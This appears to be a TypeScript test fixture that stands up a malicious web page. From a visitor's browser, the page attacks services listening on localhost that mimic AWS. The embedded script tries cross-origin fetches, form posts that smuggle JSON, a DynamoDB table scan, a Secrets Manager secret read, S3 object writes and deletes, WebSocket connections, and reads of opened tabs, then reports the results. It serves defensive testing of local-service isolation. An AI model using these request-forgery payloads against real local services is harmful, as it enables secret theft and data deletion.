import { once } from 'node:events';
import { createServer, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { text } from 'node:stream/consumers';

/** What the page has tried, and what came of it. */
export interface Attempt {
  port: number;
  how: string;
  outcome: string;
}

export interface HostileSite {
  port: number;
  /** Resolves when a page has tried everything. */
  reported(): Promise<Attempt[]>;
  /** Scripts that got to run although they should not, by the name that they were given. */
  readonly ran: string[];
  close(): void;
}

/**
 * A web site that uses its visitor's browser against listeners on this machine. `/attack` tries everything; `/go?to=…` leads to
 * another page, as a link does.
 */
export async function startHostileSite(targets: {
  ports: readonly number[];
  pages: readonly string[];
}): Promise<HostileSite> {
  const ran: string[] = [];
  let report = Promise.withResolvers<Attempt[]>();
  const server = createServer(async (request, response) => {
    const url = new URL(request.url ?? '/', 'http://site');
    // Scripts that run where they should not may tell so from any origin.
    response.setHeader('access-control-allow-origin', '*');
    switch (url.pathname) {
      case '/attack':
        return sendPage(response, `const targets = ${JSON.stringify(targets)};\n${ATTACK}`);
      case '/go':
        return sendPage(response, `location.href = ${JSON.stringify(url.searchParams.get('to'))}`);
      case '/report':
        report.resolve(JSON.parse(await text(request)) as Attempt[]);
        break;
      case '/ran':
        ran.push(url.search);
        break;
    }
    response.end();
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    port: (server.address() as AddressInfo).port,
    async reported() {
      const attempts = await report.promise;
      report = Promise.withResolvers<Attempt[]>();
      return attempts;
    },
    ran,
    close() {
      server.close();
      server.closeAllConnections();
    },
  };
}

/** A page whose script tells the site that it ran. */
export function tellingPage(sitePort: number, name: string): string {
  return `<html><body><script>fetch('http://127.0.0.1:${sitePort}/ran?${name}', { mode: 'no-cors' })</script></body></html>`;
}

function sendPage(response: ServerResponse, script: string): void {
  response.setHeader('content-type', 'text/html');
  response.end(`<html><body><script>${script}</script></body></html>`);
}

/** Runs in the browser. A request that a page may send without asking is the one that does harm even if nothing can be read. */
const ATTACK = `
const attempts = [];
const note = (port, how, outcome) => attempts.push({ port, how, outcome });
const asked = (port, how, path, init) =>
  fetch('http://127.0.0.1:' + port + path, init).then(
    (answer) => note(port, how, answer.type === 'opaque' ? 'sent' : 'read ' + answer.status),
    () => note(port, how, 'failed'),
  );
const loaded = (port, how, name, url) => new Promise((resolve) => {
  const element = document.createElement(name);
  element.onload = () => resolve(note(port, how, 'loaded'));
  element.onerror = () => resolve(note(port, how, 'failed'));
  if (name === 'link') { element.rel = 'stylesheet'; element.href = url; } else element.src = url;
  document.body.append(element);
});
const connected = (port, how, socket) => new Promise((resolve) => {
  socket.onopen = () => resolve(note(port, how, 'opened'));
  socket.onerror = () => { socket.close(); resolve(note(port, how, 'failed')); };
});
const posted = (port, how, enctype, fields) => new Promise((resolve) => {
  const frame = document.createElement('iframe');
  frame.name = how + port;
  document.body.append(frame);
  const form = document.createElement('form');
  Object.assign(form, { method: 'POST', enctype, action: 'http://127.0.0.1:' + port + '/', target: frame.name });
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement('input');
    Object.assign(input, { name, value });
    form.append(input);
  }
  document.body.append(form);
  frame.onload = () => resolve(note(port, how, 'sent'));
  form.submit();
});
const aws = (target, body) => ({
  method: 'POST',
  headers: {
    'content-type': 'application/x-amz-json-1.0',
    'x-amz-target': target,
    authorization: 'AWS4-HMAC-SHA256 Credential=a/b, SignedHeaders=host, Signature=c',
    'x-amz-date': '20260101T000000Z',
  },
  body,
});
async function attack(port) {
  const at = 'http://127.0.0.1:' + port;
  await Promise.all([
    asked(port, 'GET', '/'),
    asked(port, 'GET of the API', '/v1/series'),
    asked(port, 'GET of a bucket', '/qure-dropoff-drop?list-type=2'),
    asked(port, 'GET without reading', '/', { mode: 'no-cors' }),
    asked(port, 'scan of the table', '/', aws('DynamoDB_20120810.Scan', '{"TableName":"Table"}')),
    asked(port, 'secret', '/', { ...aws('secretsmanager.GetSecretValue', '{"SecretId":"a"}') }),
    asked(port, 'null', '/', aws('DynamoDB_20120810.ListTables', 'null')),
    asked(port, 'text', '/', { mode: 'no-cors', method: 'POST', body: 'null' }),
    asked(port, 'retry', '/v1/series/retry', { mode: 'no-cors', method: 'POST', body: '{}' }),
    asked(port, 'PUT', '/qure-dropoff-drop/default/evil.dcm', { method: 'PUT', body: 'evil' }),
    asked(port, 'DELETE', '/qure-dropoff-results/page.html', { method: 'DELETE' }),
    asked(port, 'POST of a delete', '/qure-dropoff-results?delete', { mode: 'no-cors', method: 'POST', body: '<Delete><Object><Key>page.html</Key></Object></Delete>' }),
    loaded(port, 'image of an event', 'img', at + '/2018-06-01/runtime/invocation/next'),
    loaded(port, 'image', 'img', at + '/qure-dropoff-results/image.png'),
    loaded(port, 'script', 'script', at + '/qure-dropoff-results/script.js'),
    loaded(port, 'style', 'link', at + '/'),
    connected(port, 'WebSocket', new WebSocket('ws://127.0.0.1:' + port + '/')),
    connected(port, 'EventSource', new EventSource(at + '/')),
    posted(port, 'form', 'application/x-www-form-urlencoded', { Action: 'CreateTopic', Name: 'evil' }),
    posted(port, 'text form', 'text/plain', { '{"TableName":"Table","a":"': '"}' }),
  ]);
}
(async () => {
  for (const port of targets.ports) await attack(port);
  const tabs = [...targets.ports.map((port) => 'http://127.0.0.1:' + port + '/'), ...targets.pages].map((url) => [url, window.open(url)]);
  await new Promise((resolve) => setTimeout(resolve, 5000));
  for (const [url, tab] of tabs) {
    let outcome = 'failed';
    try { outcome = 'read ' + tab.document.body.textContent; } catch {}
    note(Number(new URL(url).port), 'tab', outcome);
  }
  await fetch('/report', { method: 'POST', body: JSON.stringify(attempts) });
})();
`;
